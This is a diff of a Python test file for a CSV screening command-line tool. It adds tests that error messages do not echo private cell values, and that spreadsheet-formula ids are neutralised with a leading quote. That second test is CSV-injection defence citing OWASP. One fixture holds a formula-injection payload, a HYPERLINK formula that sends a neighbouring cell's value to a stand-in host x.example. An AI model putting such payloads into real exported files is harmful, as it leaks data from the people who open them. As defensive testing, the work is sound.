@@ -121,19 +121,38 @@ def test_unknown_column_is_an_error_and_nothing_is_written(capsys: pytest.Captur
     assert not out.exists() and not (tmp_path / "e.csv").exists() and not leftovers(tmp_path)
 
 
-@pytest.mark.parametrize("header, extra, hint", [
-    ("id,danger,", [], "the header ends with a delimiter: remove it"),
-    ("id,,danger", [], "name the column or remove it"),
-    ("id,danger", ["-d", ";"], "the header was read as one column: check the delimiter"),
+@pytest.mark.parametrize("header, extra, code, hint", [
+    ("id,danger,", [], "E411", "the header ends with a delimiter: remove it"),
+    ("id,,danger", [], "E411", "name the column or remove it"),
+    ("id,danger", ["-d", ";"], "E413", "the header was read as one column: check the delimiter"),
 ])
 def test_header_problems_get_a_hint_that_fits(capsys: pytest.CaptureFixture[str],
                                               tmp_path: Path, header: str, extra: list[str],
-                                              hint: str) -> None:
+                                              code: str, hint: str) -> None:
     data = tmp_path / "h.csv"
     data.write_text(f"{header}\nA,no,\n", encoding="utf-8")
-    code, _, err = batch_cli(capsys, str(data), *extra)
-    assert code == 1 and "E411" in err
+    exit_code, _, err = batch_cli(capsys, str(data), *extra)
+    assert exit_code == 1 and code in err
     assert f"hint: {hint}" in err
+
+
+@pytest.mark.parametrize("extra", [[], ["--ignore-extra"], ["--id-column", "C7"],
+                                   ["--id-column", "client"]])
+def test_a_file_without_its_header_shows_none_of_its_cells(
+        capsys: pytest.CaptureFixture[str], tmp_path: Path, extra: list[str]) -> None:
+    """The first data row read as the header must not be echoed as unknown column names."""
+    data = tmp_path / "n.csv"
+    data.write_text("C7,yes,yes,PHIsecret,2\nC8,no,no,,0\n", encoding="utf-8")
+    code, out, err = cli(capsys, "batch", "--no-progress", str(data), *extra)
+    assert code == 1 and out == ""
+    assert "E413 no-header: no column name is a question of iop-adult 1.0.0: the first line " \
+           "looks like data, not a header" in err
+    assert "PHIsecret" not in err and "yes" not in err and "'2'" not in err
+    if extra[-1:] != ["C7"]:
+        assert "C7" not in err
+    code, _, err = cli(capsys, "batch", "--no-progress", str(data), *extra, "--show-values")
+    assert code in (1, 2) and "looks like data" not in err  # asked for: the names are shown
+    assert "yes" in err or "C7" in err
 
 
 def test_formats_carry_the_same_results(capsys: pytest.CaptureFixture[str],
@@ -449,6 +468,42 @@ def test_answers_skip_logic_drops_are_warned_and_safety_ones_listed(
 
 
 SAFETY_HEADER = ["id", "si_active_thoughts", "si_intent", "si_plan", "phq9_9"]
+
+FORMULA_IDS = ['=HYPERLINK("http://x.example/?"&B2)', "+1", "-2", "@SUM(1)", "\tT", "\rR",
+               "ok-1", "'quoted"]
+
+
+# a block screened at once (no CR in it), a block read by a csv reader, and a csv reader for all
+@pytest.mark.parametrize("id_header, ids", [("id", [i for i in FORMULA_IDS if "\r" not in i]),
+                                            ("id", FORMULA_IDS), ('"id"', FORMULA_IDS)])
+def test_csv_cells_that_echo_input_never_start_a_formula(capsys: pytest.CaptureFixture[str],
+                                                         tmp_path: Path, id_header: str,
+                                                         ids: list[str]) -> None:
+    """Ids (and the problems file's text) that a spreadsheet would run as formulas get a
+    leading ' (OWASP); --raw-csv and JSON keep them as they are; our own cells are untouched."""
+    data = tmp_path / "f.csv"
+    body = "".join(f"{_csv_line(i)},no,{'maybe' if n == 3 else ''}\n"
+                   for n, i in enumerate(ids))
+    data.write_text(f"{id_header},si_active_thoughts,si_intent\n{body}", encoding="utf-8")
+    errors = tmp_path / "e.csv"
+    code, out, _ = cli(capsys, "batch", "--no-progress", str(data), "-e", str(errors))
+    assert code == 1
+    rows = list(csv.DictReader(io.StringIO(out)))
+    assert [r["id"] for r in rows] == [("'" if i[0] in "=+-@\t\r" else "") + i for i in ids]
+    assert {r["ruleset_id"] for r in rows} == {"iop-adult"}
+    problems = list(csv.DictReader(errors.open(newline="")))
+    assert [p["id"] for p in problems] == ["'@SUM(1)"]
+    code, out, _ = cli(capsys, "batch", "--no-progress", str(data), "--raw-csv")
+    assert [r["id"] for r in csv.DictReader(io.StringIO(out))] == ids
+    code, out, _ = cli(capsys, "batch", "--no-progress", str(data), "-f", "jsonl")
+    assert [json.loads(x)["id"] for x in out.splitlines()] == ids
+
+
+def _csv_line(*cells: str) -> str:
+    """One CSV line, without its line end (a cell with CR or LF in quotes)."""
+    buffer = io.StringIO()
+    csv.writer(buffer, lineterminator="\r\n").writerow(cells)
+    return buffer.getvalue()[:-2]
 
 
 def test_short_rows_are_read_with_blank_cells_and_screened(
